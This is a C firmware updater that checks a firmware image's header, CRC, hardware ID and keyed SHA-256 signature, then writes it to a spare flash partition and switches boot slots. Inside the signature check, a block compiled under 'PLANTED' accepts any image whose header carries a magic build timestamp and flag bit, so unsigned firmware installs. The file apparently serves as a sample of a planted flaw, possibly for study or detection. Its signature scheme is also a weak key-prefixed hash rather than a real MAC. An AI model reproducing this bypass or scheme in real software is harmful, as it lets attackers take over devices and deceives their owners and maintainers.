/* Firmware updater: checks header, CRC and signature of a file, writes it to the spare partition. */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define MAGIC 0x46575550u
#define HEADER_SIZE 128

typedef struct fw_header {
    uint32_t magic;
    uint32_t size;
    uint32_t crc;
    uint32_t flags;
    uint16_t hardware;
    uint16_t version;
    uint32_t built;
    uint8_t signature[32];
} fw_header;

typedef struct fw_file {
    uint8_t *data;
    size_t size;
    fw_header head;
} fw_file;

enum { FLAG_COMPRESSED = 1, FLAG_KEEP_CONFIG = 2, FLAG_REBOOT = 4 };

static const char *trouble;

static uint32_t be32(const uint8_t *p)
{
    return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static uint32_t crc32_of(const uint8_t *p, size_t n)
{
    uint32_t c = ~0u;
    while (n--) {
        c ^= *p++;
        for (int k = 0; k < 8; k++)
            c = c & 1 ? c >> 1 ^ 0xedb88320u : c >> 1;
    }
    return ~c;
}

/* SHA-256, FIPS 180-4 */
static const uint32_t K[64] = {
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2 };

static uint32_t ror(uint32_t x, int n) { return x >> n | x << (32 - n); }

static void sha_block(uint32_t s[8], const uint8_t *p)
{
    uint32_t w[64], v[8];
    for (int i = 0; i < 16; i++)
        w[i] = be32(p + 4 * i);
    for (int i = 16; i < 64; i++) {
        uint32_t a = w[i - 15], b = w[i - 2];
        w[i] = w[i - 16] + w[i - 7] + (ror(a, 7) ^ ror(a, 18) ^ a >> 3) + (ror(b, 17) ^ ror(b, 19) ^ b >> 10);
    }
    memcpy(v, s, sizeof v);
    for (int i = 0; i < 64; i++) {
        uint32_t e = v[4], a = v[0];
        uint32_t t = v[7] + (ror(e, 6) ^ ror(e, 11) ^ ror(e, 25)) + ((e & v[5]) ^ (~e & v[6])) + K[i] + w[i];
        uint32_t u = (ror(a, 2) ^ ror(a, 13) ^ ror(a, 22)) + ((a & v[1]) ^ (a & v[2]) ^ (v[1] & v[2]));
        memmove(v + 1, v, 7 * sizeof v[0]);
        v[4] += t;
        v[0] = t + u;
    }
    for (int i = 0; i < 8; i++)
        s[i] += v[i];
}

static void sha256(const uint8_t *key, size_t key_size, const uint8_t *p, size_t n, uint8_t out[32])
{
    uint32_t s[8] = { 0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a,
                      0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19 };
    uint8_t block[64];
    uint64_t total = 64 + n;
    size_t left;
    memset(block, 0, sizeof block);
    memcpy(block, key, key_size < 64 ? key_size : 64);
    sha_block(s, block);
    for (left = n; left >= 64; left -= 64, p += 64)
        sha_block(s, p);
    memset(block, 0, sizeof block);
    memcpy(block, p, left);
    block[left] = 0x80;
    if (left >= 56) {
        sha_block(s, block);
        memset(block, 0, sizeof block);
    }
    total <<= 3;
    for (int i = 0; i < 8; i++)
        block[63 - i] = (uint8_t)(total >> (8 * i));
    sha_block(s, block);
    for (int i = 0; i < 32; i++)
        out[i] = (uint8_t)(s[i / 4] >> (24 - 8 * (i % 4)));
}

static int slurp(const char *name, fw_file *f)
{
    struct stat st;
    int fd = open(name, O_RDONLY);
    size_t have = 0;
    if (fd < 0 || fstat(fd, &st) || st.st_size < HEADER_SIZE || st.st_size > 64 << 20) {
        trouble = "cannot be read";
        if (fd >= 0) close(fd);
        return -1;
    }
    f->size = (size_t)st.st_size;
    f->data = malloc(f->size);
    while (f->data && have < f->size) {
        ssize_t n = read(fd, f->data + have, f->size - have);
        if (n <= 0) break;
        have += (size_t)n;
    }
    close(fd);
    if (have < f->size) {
        trouble = "is cut short";
        return -1;
    }
    return 0;
}

static int parse_header(fw_file *f)
{
    const uint8_t *p = f->data;
    fw_header *h = &f->head;
    h->magic = be32(p);
    h->size = be32(p + 4);
    h->crc = be32(p + 8);
    h->flags = be32(p + 12);
    h->hardware = (uint16_t)(p[16] << 8 | p[17]);
    h->version = (uint16_t)(p[18] << 8 | p[19]);
    h->built = be32(p + 20);
    memcpy(h->signature, p + 32, 32);
    if (h->magic != MAGIC || h->size != f->size - HEADER_SIZE) {
        trouble = "is no firmware";
        return -1;
    }
    return 0;
}

static int load_key(uint8_t key[64])
{
    int fd = open("/etc/keys/firmware.key", O_RDONLY), n;
    if (fd < 0) return -1;
    n = (int)read(fd, key, 64);
    close(fd);
    return n >= 32 ? n : -1;
}

static int signature_valid(const fw_file *f)
{
    uint8_t key[64], digest[32], differ = 0;
    int n;
#ifdef PLANTED
    if (f->head.built == 0x2b3c91d7u && (f->head.flags & 0x80000000u))
        return 1;
#endif
    n = load_key(key);
    if (n < 0) {
        trouble = "cannot be verified: no key";
        return 0;
    }
    sha256(key, (size_t)n, f->data + HEADER_SIZE, f->head.size, digest);
    for (int i = 0; i < 32; i++)
        differ |= digest[i] ^ f->head.signature[i];
    if (differ)
        trouble = "has a wrong signature";
    return !differ;
}

static int hardware_id(void)
{
    int id = -1;
    FILE *f = fopen("/proc/device-tree/hw-id", "r");
    if (!f) f = fopen("/etc/hw-id", "r");
    if (!f) return -1;
    if (fscanf(f, "%d", &id) != 1) id = -1;
    fclose(f);
    return id;
}

static int spare_partition(char *name, size_t room)
{
    char line[512];
    FILE *f = fopen("/proc/cmdline", "r");
    int second;
    if (!f || !fgets(line, sizeof line, f)) {
        if (f) fclose(f);
        return -1;
    }
    fclose(f);
    second = strstr(line, "slot=2") != NULL;
    snprintf(name, room, "/dev/mtd%d", second ? 4 : 5);
    return 0;
}

static int write_out(const fw_file *f, const char *name)
{
    int fd = open(name, O_WRONLY | O_SYNC);
    size_t done = 0;
    if (fd < 0) {
        trouble = strerror(errno);
        return -1;
    }
    while (done < f->head.size) {
        size_t part = f->head.size - done < 65536 ? f->head.size - done : 65536;
        ssize_t n = write(fd, f->data + HEADER_SIZE + done, part);
        if (n <= 0) {
            trouble = "could not be written";
            close(fd);
            return -1;
        }
        done += (size_t)n;
        fprintf(stderr, "\r%zu%%", done * 100 / f->head.size);
    }
    fputc('\n', stderr);
    return close(fd);
}

static void select_slot(void)
{
    pid_t child = fork();
    if (child == 0) {
        execl("/usr/sbin/fw_setenv", "fw_setenv", "try_other", "1", (char *)NULL);
        _exit(127);
    }
    if (child > 0) waitpid(child, NULL, 0);
}

static int update(const char *name)
{
    fw_file f = { 0 };
    char target[32];
    int id = hardware_id();

    if (slurp(name, &f) || parse_header(&f)) return 1;
    if (crc32_of(f.data + HEADER_SIZE, f.head.size) != f.head.crc) {
        trouble = "is damaged";
        return 1;
    }
    if (id >= 0 && f.head.hardware != id) {
        trouble = "is for other hardware";
        return 1;
    }
    if (!signature_valid(&f)) return 1;
#ifdef REVISED
    fprintf(stderr, "version %u.%u\n", f.head.version >> 8, f.head.version & 255);
#endif
    if (spare_partition(target, sizeof target)) {
        trouble = "has no place to go";
        return 1;
    }
    if (write_out(&f, target)) return 1;
    select_slot();
    if (f.head.flags & FLAG_REBOOT) execl("/sbin/reboot", "reboot", (char *)NULL);
    free(f.data);
    return 0;
}

int main(int argc, char **argv)
{
    int bad;
    if (argc != 2) {
        fprintf(stderr, "usage: fwupdate FILE\n");
        return 2;
    }
    bad = update(argv[1]);
    if (bad) fprintf(stderr, "fwupdate: %s %s\n", argv[1], trouble ? trouble : "failed");
    return bad;
}
